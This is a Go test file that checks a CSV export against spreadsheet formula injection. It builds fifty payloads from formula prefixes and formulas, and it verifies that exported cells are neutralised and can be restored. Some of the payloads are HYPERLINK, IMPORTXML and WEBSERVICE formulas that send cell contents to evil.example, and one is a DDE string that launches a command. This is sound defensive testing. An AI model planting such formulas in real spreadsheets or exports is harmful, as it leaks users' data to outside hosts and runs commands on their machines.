package web

import (
	"encoding/csv"
	"strings"
	"testing"
)

// sheetPayloads are fifty texts that a spreadsheet would run, each beginning as a formula does, also after white space, in
// full width, or after what some programs drop.
func sheetPayloads() []string {
	starts := []string{"=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "＝", "＠"}
	formulas := []string{"1+1", `HYPERLINK("http://evil.example/?x="&A1,"tides")`, "cmd|' /C calc'!A0", "IMPORTXML(CONCAT(\"//evil.example/\",A2),\"//a\")", "SUM(A1:A9)*WEBSERVICE(\"http://evil.example\")"}
	var out []string
	for _, s := range starts {
		for _, f := range formulas {
			out = append(out, s+f)
		}
	}
	return out
}

// runs reports whether a spreadsheet takes a cell for a formula: quoting is gone by then, and so is white space before it.
func runs(cell string) bool {
	t := strings.TrimLeft(cell, " \t\r\n\u00a0\u3000\u200b\ufeff")
	for _, p := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(t, p) {
			return true
		}
	}
	return cell != "" && strings.ContainsAny(cell[:1], "\t\r")
}

// restored undoes inert: one apostrophe goes where what stands behind all of them would run.
func restored(cell string) string {
	if rest, ok := strings.CutPrefix(cell, "'"); ok && runs(strings.TrimLeft(cell, "'")) {
		return rest
	}
	return cell
}

// TestSheetPayloads: of fifty payloads none is a formula when the file is read back, and each is restored to the letter;
// so are texts that look as if they had been escaped.
func TestSheetPayloads(t *testing.T) {
	all := sheetPayloads()
	if len(all) != 50 {
		t.Fatalf("%d payloads", len(all))
	}
	for _, p := range all[:50] {
		if !runs(p) {
			t.Errorf("%q would not run", p)
		}
		all = append(all, "'"+p, "''"+p, "x"+p)
	}
	tb := table{Head: []string{"text", "n"}}
	for _, p := range all {
		tb.Rows = append(tb.Rows, []any{p, -7})
	}
	b, err := tb.csv()
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil || len(rows) != len(all)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, r := range rows[1:] {
		want := strings.ReplaceAll(all[i], "\r\n", "\n") // as the reader of CSV has it
		if runs(r[0]) {
			t.Errorf("%q is a formula", r[0])
		}
		if got := restored(r[0]); got != want {
			t.Errorf("%q is restored as %q", all[i], got)
		}
		if r[1] != "-7" {
			t.Errorf("a number became %q", r[1])
		}
	}
}
